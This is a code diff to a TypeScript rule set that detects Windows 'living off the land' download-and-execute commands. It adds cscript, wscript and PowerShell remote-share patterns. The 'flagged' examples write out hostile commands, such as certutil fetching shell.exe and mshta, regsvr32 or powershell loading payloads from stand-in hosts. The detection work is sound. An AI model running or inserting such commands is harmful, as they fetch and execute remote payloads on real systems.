@@ -56,13 +56,13 @@ export const WINDOWS_RULES: readonly TokenRule[] = [
   {
     id: 'win-lolbin-download',
     rule: 'download-execute',
-    anchors: ['certutil', 'bitsadmin', 'mshta', 'regsvr32', 'rundll32', 'msiexec', 'regasm', 'regsvcs', 'installutil', 'msbuild', 'cmstp', 'odbcconf', 'msxsl', 'wmic'],
+    anchors: ['certutil', 'bitsadmin', 'mshta', 'regsvr32', 'rundll32', 'msiexec', 'regasm', 'regsvcs', 'installutil', 'msbuild', 'cmstp', 'odbcconf', 'msxsl', 'wmic', 'cscript', 'wscript', 'powershell', 'pwsh'],
     pattern:
-      /certutil(?:\.exe)?\b[^\n]{0,80}?-(?:urlcache|verifyctl)\b[^\n]{0,120}?(?:https?:|\\\\)|bitsadmin(?:\.exe)?\b[^\n/]{0,60}\/(?:transfer|addfile)\b|mshta(?:\.exe)?\s{1,5}['"]?(?:https?:|javascript:|vbscript:|\\\\)|regsvr32(?:\.exe)?\b[^\n]{0,80}?\/i:\s{0,3}['"]?(?:https?:|\\\\)|rundll32(?:\.exe)?\b[^\n,]{0,60}(?:javascript:|url\.dll\s{0,3},|shell32\.dll\s{0,3},\s{0,3}shellexec_rundll|advpack\.dll\s{0,3},|pcwutl\.dll\s{0,3},)|msiexec(?:\.exe)?\b[^\n]{0,60}?\s\/(?:i|package)\s{1,5}['"]?(?:https?:|\\\\)|(?:regasm|regsvcs|installutil|msbuild|cmstp|odbcconf|msxsl)(?:\.exe)?\b[^\n]{0,150}?(?:https?:\/\/|\\{2,4}[\w.-]{1,60}\\)|wmic(?:\.exe)?\b[^\n]{0,80}?\bprocess\s{1,5}call\s{1,5}create\b/iy,
-    reference: 'LOLBAS project (certutil, bitsadmin, mshta, regsvr32, rundll32, msiexec, MSBuild, InstallUtil); MITRE ATT&CK T1218',
+      /certutil(?:\.exe)?\b[^\n]{0,80}?-(?:urlcache|verifyctl)\b[^\n]{0,120}?(?:https?:|\\\\)|bitsadmin(?:\.exe)?\b[^\n/]{0,60}\/(?:transfer|addfile)\b|mshta(?:\.exe)?\s{1,5}['"]?(?:https?:|javascript:|vbscript:|\\\\)|regsvr32(?:\.exe)?\b[^\n]{0,80}?\/i:\s{0,3}['"]?(?:https?:|\\\\)|rundll32(?:\.exe)?\b[^\n,]{0,60}(?:javascript:|url\.dll\s{0,3},|shell32\.dll\s{0,3},\s{0,3}shellexec_rundll|advpack\.dll\s{0,3},|pcwutl\.dll\s{0,3},)|msiexec(?:\.exe)?\b[^\n]{0,60}?\s\/(?:i|package)\s{1,5}['"]?(?:https?:|\\\\)|(?:regasm|regsvcs|installutil|msbuild|cmstp|odbcconf|msxsl)(?:\.exe)?\b[^\n]{0,150}?(?:https?:\/\/|\\{2,4}[\w.-]{1,60}\\)|wmic(?:\.exe)?\b[^\n]{0,80}?\bprocess\s{1,5}call\s{1,5}create\b|[cw]script(?:\.exe)?\b(?=[^\n]{0,80}?\/\/e:)[^\n]{0,80}?\s['"]?\\{2,4}[\w.-]{1,60}\\|(?:powershell|pwsh)(?:\.exe)?\b(?=[^\n]{0,120}?\s[-/](?:ep|exec|executionpolicy)\s{1,5}['"]?bypass\b)[^\n]{0,120}?\s[-/](?:f|file)\s{1,5}['"]?\\{2,4}[\w.-]{1,60}\\/iy,
+    reference: 'LOLBAS project (certutil, bitsadmin, mshta, regsvr32, rundll32, msiexec, MSBuild, InstallUtil, cscript/wscript); MITRE ATT&CK T1218, T1059.001 (a script run from a remote share with its engine forced or the execution policy bypassed)',
     examples: {
-      flagged: ['certutil.exe -urlcache -split -f http://10.0.0.1/shell.exe shell.exe', 'regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll', 'mshta http://10.0.0.1/payload.hta', 'regasm.exe /u \\\\webdavserver\\folder\\payload.dll'],
-      clean: ['certutil -hashfile setup.exe SHA256', 'msiexec /i setup.msi /qn'],
+      flagged: ['certutil.exe -urlcache -split -f http://10.0.0.1/shell.exe shell.exe', 'regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll', 'mshta http://10.0.0.1/payload.hta', 'regasm.exe /u \\\\webdavserver\\folder\\payload.dll', 'cscript //E:jscript \\\\webdavserver\\folder\\payload.txt', 'powershell -exec bypass -f \\\\webdavserver\\folder\\payload.ps1'],
+      clean: ['certutil -hashfile setup.exe SHA256', 'msiexec /i setup.msi /qn', 'cscript //nologo C:\\scripts\\inventory.vbs', 'cscript \\\\fileserver\\netlogon\\logon.vbs', 'powershell -ExecutionPolicy Bypass -File .\\build.ps1', 'powershell -File \\\\fileserver\\scripts\\logon.ps1'],
     },
   },
   {
